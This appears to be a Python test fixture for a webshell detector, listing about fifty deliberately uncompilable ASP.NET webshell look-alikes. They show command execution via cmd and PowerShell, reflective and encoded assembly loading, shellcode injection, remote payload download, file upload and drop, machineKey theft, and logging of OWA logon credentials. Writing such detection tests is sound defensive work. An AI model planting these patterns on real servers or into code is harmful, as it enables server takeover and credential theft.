# ruff: noqa: E501 - the lines of these pages are as long as such pages have them
"""Look-alikes for ASP.NET, one for each style of such a page; none can run, `1broken` stops each compiler."""

from tests.detection.webshell.second_samples import cut

PAGES = cut(
    r"""
==== stdin.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken;
void Page_Load(object s, EventArgs e) {
  var p = new System.Diagnostics.Process();
  p.StartInfo.FileName = Environment.SystemDirectory + "\\c" + "md.exe";
  p.StartInfo.UseShellExecute = false; p.StartInfo.RedirectStandardInput = true;
  p.Start();
  p.StandardInput.WriteLine(Request.Form["line"]);
  p.StandardInput.Close();
}</script>
==== class-field.ashx
<%@ WebHandler Language="C#" Class="Hx" %>
using System.Diagnostics; int 1broken;
public class Hx : IHttpHandler {
  class Job { public string What { get; set; } public string Go() { var i = new ProcessStartInfo("powershell"); i.Arguments = this.What; return Process.Start(i).StandardOutput.ReadToEnd(); } }
  public void ProcessRequest(HttpContext c) { var j = new Job(); j.What = c.Request.Headers["X-Trace"]; c.Response.Write(j.Go()); }
  public bool IsReusable { get { return true; } }
}
==== appdomain.aspx
<%@ Page Language="C#" %><% int 1broken;
byte[] raw = Request.BinaryRead(Request.TotalBytes);
for (int i = 0; i < raw.Length; i++) raw[i] ^= 0x5a;
var a = AppDomain.CurrentDomain.Load(raw);
a.CreateInstance("K").Equals(Page); %>
==== reflected-load.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken;
protected override void OnInit(EventArgs e) {
  Type t = Type.GetType("System.Reflec" + "tion.Assembly");
  var m = t.GetMethod("Lo" + "ad", new[] { typeof(byte[]) });
  var z = m.Invoke(null, new object[] { Convert.FromBase64String(Request.Cookies["sid"].Value) });
}</script>
==== reflected-process.aspx
<%@ Page Language="C#" %><% int 1broken;
var n = Encoding.ASCII.GetString(Convert.FromBase64String("U3lzdGVtLkRpYWdub3N0aWNzLlByb2Nlc3M="));
Type t = Assembly.LoadWithPartialName("System").GetType(n);
t.GetMethod("St" + "art", new Type[] { typeof(string), typeof(string) }).Invoke(null, new object[] { "cmd", "/c " + Request["q"] }); %>
==== invoke-member.aspx
<%@ Page Language="VB" %><script runat="server">
Dim 1broken
Sub Page_Load(s As Object, e As EventArgs)
  Dim t As Type = Type.GetTypeFromProgID("WScript.Shell")
  Dim o As Object = Activator.CreateInstance(t)
  Dim r = t.InvokeMember("Ru" & "n", Reflection.BindingFlags.InvokeMethod, Nothing, o, New Object() {Request.Params("go"), 0, True})
End Sub
</script>
==== vbcode.aspx
<%@ Page Language="VB" %><script runat="server">
Dim 1broken
Protected Sub b_Click(sender As Object, e As EventArgs) Handles b.Click
  Dim cp As New VBCodeProvider()
  Dim ps As New CompilerParameters()
  ps.GenerateInMemory = True
  Dim src As String = "Public Class X" & vbCrLf & body.Text & vbCrLf & "End Class"
  Dim r = cp.CompileAssemblyFromSource(ps, src)
  r.CompiledAssembly.CreateInstance("X").Run()
End Sub
</script><form runat="server"><asp:TextBox runat="server" id="body" TextMode="MultiLine"/><asp:Button id="b" runat="server"/></form>
==== runspace.aspx
<%@ Page Language="C#" %><%@ Import Namespace="System.Management.Automation.Runspaces" %><script runat="server">int 1broken;
string Go(string text) {
  var rs = RunspaceFactory.CreateRunspace(); rs.Open();
  Pipeline pl = rs.CreatePipeline(); pl.Commands.AddScript(text); pl.Commands.Add("Out-String");
  return pl.Invoke().ToString();
}
void b_Click(object s, EventArgs e) { o.Text = Go(i.Text); }
</script><form runat=server><asp:TextBox id=i runat=server /><asp:Button OnClick=b_Click runat=server /><asp:Label id=o runat=server /></form>
==== powershell-create.ashx
<%@ WebHandler Language="C#" Class="P1" %>
int 1broken;
public class P1 : IHttpHandler { public void ProcessRequest(HttpContext c) {
  using (var ps = System.Management.Automation.PowerShell.Create()) { ps.AddScript(Encoding.UTF8.GetString(Convert.FromBase64String(c.Request.Form["d"]))); foreach (var r in ps.Invoke()) c.Response.Write(r); } } }
==== wmi.aspx
<%@ Page Language="C#" %><% int 1broken;
var mc = new System.Management.ManagementClass("root\\cimv2", "Win32_Process", null);
var inp = mc.GetMethodParameters("Create");
inp["CommandLine"] = "cmd /c " + Request.QueryString["w"];
mc.InvokeMethod("Create", inp, null); %>
==== xp.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken;
void Go(object s, EventArgs e) {
  SqlConnection c = new SqlConnection("server=.;uid=" + u.Text + ";pwd=" + p.Text);
  c.Open();
  SqlCommand q = new SqlCommand("exec master.dbo.xp_cmdshell '" + t.Text + "'", c);
  SqlDataReader r = q.ExecuteReader();
}</script><form runat="server"><asp:TextBox id="u" runat="server"/><asp:TextBox id="p" runat="server"/><asp:TextBox id="t" runat="server"/></form>
==== sqlclient.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken;
void Run(object s, EventArgs e) {
  SqlConnection c = new SqlConnection(conn.Text);
  SqlDataAdapter a = new SqlDataAdapter(query.Text, c);
  DataSet d = new DataSet(); a.Fill(d); grid.DataSource = d; grid.DataBind();
}</script><form runat="server"><asp:TextBox id="conn" runat="server"/><asp:TextBox id="query" runat="server"/><asp:DataGrid id="grid" runat="server"/></form>
==== oledb.aspx
<%@ Page Language="VB" %><script runat="server">
Dim 1broken
Sub Go(s As Object, e As EventArgs)
  Dim c As New OleDbConnection(Request.Form("cs"))
  c.Open()
  Dim m As New OleDbCommand(Request.Form("sq"), c)
  Response.Write(m.ExecuteNonQuery())
End Sub
</script>
==== manager.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken;
void Page_Load(object s, EventArgs e) {
  string d = Request["dir"] ?? Server.MapPath(".");
  switch (Request["act"]) {
    case "del": File.Delete(Request["file"]); break;
    case "get": Response.TransmitFile(Request["file"]); break;
    case "put": Request.Files[0].SaveAs(Path.Combine(d, Path.GetFileName(Request.Files[0].FileName))); break;
  }
  foreach (string f in Directory.GetFiles(d)) Response.Write(f + "<br>");
}</script>
==== browser.aspx
<%@ Page Language="C#" %><% int 1broken;
string d = Request.QueryString["d"]; string f = Request.QueryString["f"];
if (f != null) { Response.Write("<pre>" + Server.HtmlEncode(System.IO.File.ReadAllText(f)) + "</pre>"); }
else { var di = new System.IO.DirectoryInfo(d); foreach (var x in di.GetFiles()) { Response.Write(x.FullName); } } %>
==== body-upload.ashx
<%@ WebHandler Language="C#" Class="Up" %>
int 1broken;
public class Up : IHttpHandler { public void ProcessRequest(HttpContext c) {
  string to = c.Request.Headers["X-File"];
  using (var fs = System.IO.File.Create(to)) { c.Request.InputStream.CopyTo(fs); } c.Response.Write("ok"); } public bool IsReusable { get { return false; } } }
==== drop-page.aspx
<%@ Page Language="C#" %><% int 1broken;
var b = Convert.FromBase64String(Request.Form["b"]);
System.IO.File.WriteAllBytes(Server.MapPath("~/aspnet_client/system_web/x.aspx"), b); %>
==== append.aspx
<%@ Page Language="VB" %><% Dim 1broken
Dim n As String = Request("n")
Dim sw As System.IO.StreamWriter = System.IO.File.AppendText(n)
sw.WriteLine(Request("t"))
sw.Close() %>
==== jscript-case.aspx
<%@ PAGE lAnGuAgE = 'jScRiPt' debug=true %><% var 1broken; eval ( Request . Item [ "k" ] , "unsafe" ) ; %>
==== jscript-alias.aspx
<%@ Page Language="JScript"%><% var 1broken; var z = Request["k"]; var m = "e" + "va" + "l"; var r = this[m](z, "unsafe"); %>
==== jscript-split.aspx
<%@ Page Language="JS"%><% var 1broken; var u = "unsa" + "fe"; var c = String.fromCharCode; function f(a){ return Request.Params[a]; } %><%eval(f("k"), u);%>
==== jscript-nested.aspx
<%@ Page Language="Jscript"%><% var 1broken; var a = Request.Headers["X-Id"]; var b = System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(a)); var c = ""; for (var i = 0; i < b.length; i++) { c += String.fromCharCode(b.charCodeAt(i) ^ 3); } eval(c, "unsafe"); %>
==== jscript-engine.aspx
<%@ Page Language="C#" %><%@ Assembly Name="Microsoft.JScript" %><% int 1broken;
var en = Microsoft.JScript.Vsa.VsaEngine.CreateEngine();
Response.Write(Microsoft.JScript.Eval.JScriptEvaluate(Request["k"], "unsafe", en)); %>
==== vb-shell.aspx
<%@ Page Language="VB" %><script runat="server">
Dim 1broken
Sub Page_Load()
  If Not Request.Form("x") Is Nothing Then
    Dim id = Microsoft.VisualBasic.Interaction.Shell(Request.Form("x"), AppWinStyle.Hide, True, 30000)
  End If
End Sub
</script>
==== vb-callbyname.aspx
<%@ Page Language="VB" %><% Dim 1broken
Dim w = CreateObject("WScr" & "ipt.Shell")
Dim r = CallByName(w, "Ex" & "ec", CallType.Method, Request.QueryString("c")) %>
==== vb-scriptcontrol.aspx
<%@ Page Language="VB" %><% Dim 1broken
Dim o = Server.CreateObject("MSScriptControl.ScriptControl")
o.Language = "VBScript"
o.AllowUI = False
o.ExecuteStatement(Request("s")) %>
==== xaml.ashx
<%@ WebHandler Language="C#" Class="Xm" %>
int 1broken;
public class Xm : IHttpHandler { public void ProcessRequest(HttpContext c) { var t = new System.IO.StreamReader(c.Request.InputStream).ReadToEnd(); System.Windows.Markup.XamlReader.Parse(t); } }
==== netdata.aspx
<%@ Page Language="C#" %><% int 1broken;
var ms = new MemoryStream(Convert.FromBase64String(Request.Form["__x"]));
var o = new System.Runtime.Serialization.NetDataContractSerializer().Deserialize(ms); %>
==== objectstate.aspx
<%@ Page Language="VB" %><% Dim 1broken
Dim f As New System.Web.UI.ObjectStateFormatter()
f.Deserialize(Request.Form("st")) %>
==== json-types.ashx
<%@ WebHandler Language="C#" Class="Js" %>
int 1broken;
public class Js : IHttpHandler { public void ProcessRequest(HttpContext c) {
 var s = new Newtonsoft.Json.JsonSerializerSettings { TypeNameHandling = Newtonsoft.Json.TypeNameHandling.All };
 var o = Newtonsoft.Json.JsonConvert.DeserializeObject(c.Request["j"], s); } }
==== virtual-path.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken;
public class Vp : System.Web.Hosting.VirtualPathProvider {
  string body; public Vp(string b) { body = b; }
  public override System.Web.Hosting.VirtualFile GetFile(string p) { return new Vf(p, body); }
}
void Page_Load(object s, EventArgs e) {
  System.Web.Hosting.HostingEnvironment.RegisterVirtualPathProvider(new Vp(Encoding.UTF8.GetString(Convert.FromBase64String(Request["b"]))));
}</script>
==== route.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken;
class Rh : IRouteHandler { public IHttpHandler GetHttpHandler(RequestContext r) { var h = r.HttpContext.Request; var a = Assembly.Load(Convert.FromBase64String(h.Form["p"])); return (IHttpHandler)a.CreateInstance("H"); } }
void Page_Load(object s, EventArgs e) { RouteTable.Routes.Insert(0, new Route("x/{y}", new Rh())); }
</script>
==== keys.aspx
<%@ Page Language="C#" %><%@ Import Namespace="System.Reflection" %><script runat="server">int 1broken;
public void Page_Load() {
  var a = Assembly.Load("System.Web, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a");
  var t = a.GetType("System.Web.Configuration.MachineKeySection");
  var m = t.GetMethod("GetApplicationConfig", BindingFlags.Static | BindingFlags.NonPublic);
  var c = (System.Web.Configuration.MachineKeySection)m.Invoke(null, new object[0]);
  Response.Write(c.ValidationKey + "|" + c.Validation + "|" + c.DecryptionKey);
}</script>
==== keys-config.aspx
<%@ Page Language="VB" %><% Dim 1broken
Dim k = CType(System.Web.Configuration.WebConfigurationManager.GetSection("system.web/machineKey"), System.Web.Configuration.MachineKeySection)
Response.Write(k.DecryptionKey & " " & k.ValidationKey) %>
==== logon-log.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken;
protected void Page_Load(object s, EventArgs e) {
  if (Request.HttpMethod == "POST") {
    string row = DateTime.Now + "\t" + Request.Form["username"] + "\t" + Request.Form["password"] + "\r\n";
    System.IO.File.AppendAllText(@"C:\Windows\Temp\~df01.tmp", row);
  }
}</script>
==== logon-module.asax
<%@ Application Language="C#" %><script runat="server">int 1broken;
void Application_BeginRequest(object s, EventArgs e) {
  var r = ((HttpApplication)s).Request;
  if (r.Path.EndsWith("auth.owa")) { using (var w = new System.IO.StreamWriter("C:\\temp\\o.txt", true)) { w.WriteLine(r.Form["username"] + ":" + r.Form["passwordText"] + r.Form["password"]); } }
}</script>
==== asax-eval.asax
<%@ Application Language="C#" %><script runat="server">int 1broken;
protected void Application_BeginRequest(Object sender, EventArgs e) {
  string h = Request.Headers["Accept-Token"];
  if (!String.IsNullOrEmpty(h)) { Response.Write(System.Diagnostics.Process.Start("cmd.exe", "/c" + h).Id); Response.End(); }
}</script>
==== socket.ashx
<%@ WebHandler Language="C#" Class="Tn" %>
int 1broken;
public class Tn : IHttpHandler, IRequiresSessionState { public void ProcessRequest(HttpContext c) {
  if (c.Request.Headers["X-CMD"] == "CONNECT") { var t = new TcpClient(); t.Connect(c.Request.Headers["X-TARGET"], Convert.ToInt32(c.Request.Headers["X-PORT"])); c.Session["s"] = t; }
  if (c.Request.Headers["X-CMD"] == "FORWARD") { var t = (TcpClient)c.Session["s"]; var b = c.Request.BinaryRead(c.Request.ContentLength); t.GetStream().Write(b, 0, b.Length); } } }
==== remote.aspx
<%@ Page Language="C#" %><% int 1broken;
var d = new System.Net.WebClient().DownloadData(Request["u"]);
System.Reflection.Assembly.Load(d).EntryPoint.Invoke(null, null); %>
==== memory.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken;
[DllImport("kernel32")] static extern IntPtr VirtualAlloc(IntPtr a, UIntPtr s, int t, int p);
[DllImport("kernel32")] static extern IntPtr CreateThread(IntPtr a, UIntPtr s, IntPtr f, IntPtr p, int c, ref IntPtr i);
void Page_Load(object s, EventArgs e) { byte[] b = Convert.FromBase64String(Request.Form["b"]); IntPtr m = VirtualAlloc(IntPtr.Zero, (UIntPtr)b.Length, 0x1000, 0x40); Marshal.Copy(b, 0, m, b.Length); IntPtr z = IntPtr.Zero; CreateThread(IntPtr.Zero, UIntPtr.Zero, m, IntPtr.Zero, 0, ref z); }
</script>
==== native-system.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken;
[DllImport("msvcrt.dll", EntryPoint = "system")] static extern int Sy(string x);
void Page_Load(object s, EventArgs e) { Sy(Request["z"]); }
</script>
==== service.svc
<%@ ServiceHost Language="C#" Service="Sv" %>
int 1broken;
[ServiceContract] public class Sv { [OperationContract] public string Do(string line) { var i = new ProcessStartInfo { FileName = "cmd.exe", Arguments = "/c " + line }; return Process.Start(i).StandardOutput.ReadToEnd(); } }
==== method-loop.aspx
<%@ Page Language="C#" %><% int 1broken;
foreach (var m in typeof(Assembly).GetMethods()) if (m.Name == "Load" && m.GetParameters().Length == 1 && m.GetParameters()[0].ParameterType == typeof(byte[])) m.Invoke(null, new object[] { Convert.FromBase64String(Request["b"]) }); %>
==== delegates.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken;
delegate object Ld(byte[] b);
void Page_Load(object s, EventArgs e) { Ld l = new Ld(Assembly.Load); l(Convert.FromBase64String(Request["b"])); }
</script>
==== build-manager.aspx
<%@ Page Language="C#" %><% int 1broken;
string p = "~/t" + DateTime.Now.Ticks + ".aspx";
System.IO.File.WriteAllText(Server.MapPath(p), Request["src"]);
Server.Execute(p); System.IO.File.Delete(Server.MapPath(p)); %>
==== parse-control.aspx
<%@ Page Language="C#" %><% int 1broken;
Control c = Page.ParseControl(Request.Form["m"]); Page.Controls.Add(c); %>
==== gzip-load.ashx
<%@ WebHandler Language="C#" Class="Gz" %>
int 1broken;
public class Gz : IHttpHandler { public void ProcessRequest(HttpContext c) {
 using (var z = new System.IO.Compression.GZipStream(c.Request.InputStream, System.IO.Compression.CompressionMode.Decompress)) using (var m = new MemoryStream()) { z.CopyTo(m); var t = Assembly.Load(m.ToArray()).GetExportedTypes()[0]; Activator.CreateInstance(t); } } }
==== packed-load.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken;
static byte[] D(string s) { byte[] r = Convert.FromBase64String(s); for (int i = 0; i < r.Length; i++) r[i] = (byte)(r[i] ^ (i % 7)); return r; }
void Page_Load(object s, EventArgs e) { Assembly.Load(D("H4sIAAAAAAAEAJ1X227bRhB9F6B/GOhJQmyKpC6WBAQFQ0m2UNtKo9RNXwxqtZJYU6SwXMpJ2n/vzC5JUZadtjEga7k7OztzdubsUm/0BrwBb8Ab8Aa8AW/AG/AGvAFvwBvwBrwBb8Ab8Aa8AW8A")).CreateInstance("E"); }
</script>
==== cshtml-eval.cshtml
@{ int 1broken; var k = Request["k"]; var b = Convert.FromBase64String(k); var a = System.Reflection.Assembly.Load(b); }
<p>@a.GetType("R").GetMethod("M").Invoke(null, new object[] { Context })</p>
==== utf16-proc.aspx
<%@ Page Language="C#" %><% int 1broken; System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["z"]); %>
==== escapes.aspx
<%@ Page Language="C#" %><% int 1broken; Sys\u0074em.Diagno\u0073tics.Pro\u0063ess.St\U00000061rt("cm" + "d", "/c " + Re\u0071uest["z"]); %>
==== concat-names.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken;
string J(params string[] p) { return string.Join("", p); }
void Page_Load(object s, EventArgs e) { dynamic w = Activator.CreateInstance(Type.GetTypeFromProgID(J("WSc", "ript", ".She", "ll"))); w.Run(Request["z"]); }
</script>
==== control.ascx
<%@ Control Language="C#" %><script runat="server">int 1broken;
protected void Page_Load(object sender, EventArgs e) { var q = Request.QueryString; foreach (string k in q.AllKeys) { if (k.Length == 32) { System.Reflection.Assembly.Load(HttpServerUtility.UrlTokenDecode(q[k])); } } }
</script>
==== cache-steps.aspx
<%@ Page Language="C#" %><% int 1broken;
if (Request["a"] == "1") Cache["p"] = Cache["p"] + Request["d"];
if (Request["a"] == "2") { Assembly.Load(Convert.FromBase64String((string)Cache["p"])); } %>
"""
)
